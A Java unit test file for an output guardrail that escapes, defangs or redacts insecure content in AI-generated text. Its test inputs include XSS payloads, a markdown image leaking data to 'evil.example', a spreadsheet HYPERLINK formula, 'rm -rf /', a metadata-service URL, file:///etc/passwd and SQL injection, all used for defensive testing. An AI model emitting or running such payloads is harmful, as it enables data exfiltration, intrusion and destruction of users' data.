package io.plumbline.guardrails.output;

import static org.assertj.core.api.Assertions.assertThat;

import io.plumbline.guardrails.GuardEngine;
import io.plumbline.guardrails.Inspection;
import io.plumbline.guardrails.policy.FailureMode;
import io.plumbline.guardrails.policy.GuardPolicy;
import io.plumbline.guardrails.policy.Rule;
import io.plumbline.guardrails.policy.Stage;
import io.plumbline.guardrails.policy.StageRules;
import io.plumbline.personaldata.detect.Category;
import io.plumbline.personaldata.placeholder.PlaceholderVault;
import io.plumbline.personaldata.redact.Action;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SafeRenderingTest {

    private static final GuardEngine ENGINE = GuardEngine.standard();
    private static final GuardPolicy RENDERED = new GuardPolicy(
            Map.of(
                    Stage.OUTPUT,
                    StageRules.of(Map.of(
                            Category.INSECURE_OUTPUT, Rule.of(Action.REDACT), Category.PII, Rule.of(Action.REDACT)))),
            FailureMode.CLOSED,
            60_000);

    private static Inspection inspect(String text) {
        return ENGINE.inspect(Stage.OUTPUT, text, RENDERED);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            quoteCharacter = '^',
            value = {
                "a <script>go()</script> b ~ a &lt;script&gt;go()&lt;/script&gt; b",
                "<a href=\"javascript:go()\"> ~ &lt;a href=&quot;unsafe:go()&quot;&gt;",
                "Open http://169.254.169.254/latest now ~ Open hxxp[:]//169[.]254[.]169[.]254/latest now",
                "Done ![chart](https://evil.example/p?data=jane) ok ~ Done chart ok",
                "=HYPERLINK(\"http://evil.example\") ~ '=HYPERLINK(\"http://evil.example\")",
                "try rm -rf / ~ try [SHELL_COMMAND]",
                "%3Cscript%3Ego()%3C/script%3E ~ [CROSS_SITE_SCRIPTING]"
            })
    void disarmsWhatIsFoundAndKeepsTheRest(String text, String safe) {
        Inspection inspection = inspect(text);
        assertThat(inspection.decision()).isEqualTo(Action.REDACT);
        assertThat(inspection.text()).isEqualTo(safe);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "x <img src=x onerror=go(1)> y",
                "<svg onload=\"javascript:go()\"><script>a()</script>",
                "http://0x7f000001/ and file:///etc/passwd",
                "' OR 1=1; DROP TABLE a; --",
                "\u001B[2Jgone"
            })
    void leavesNothingToBeFound(String text) {
        assertThat(inspect(inspect(text).text()).decision()).isEqualTo(Action.ALLOW);
    }

    @Test
    void worksBesideRedaction() {
        assertThat(inspect("Mail jane.roe@example.com <script>go()</script>").text())
                .doesNotContain("jane.roe", "<script>")
                .contains("&lt;script&gt;go()");
    }

    @Test
    void rendersStringsInsideJson() {
        String json = "{\"html\": \"<script>go(\\\"x\\\")</script>\", \"n\": 5, \"ok\": \"a\\u00e9\"}";
        Inspection inspection = ENGINE.inspectJson(Stage.OUTPUT, json, RENDERED, PlaceholderVault.fresh());
        assertThat(inspection.decision()).isEqualTo(Action.REDACT);
        assertThat(inspection.text())
                .isEqualTo(
                        "{\"html\": \"&lt;script&gt;go(&quot;x&quot;)&lt;/script&gt;\", \"n\": 5, \"ok\": \"a\\u00e9\"}");
    }
}
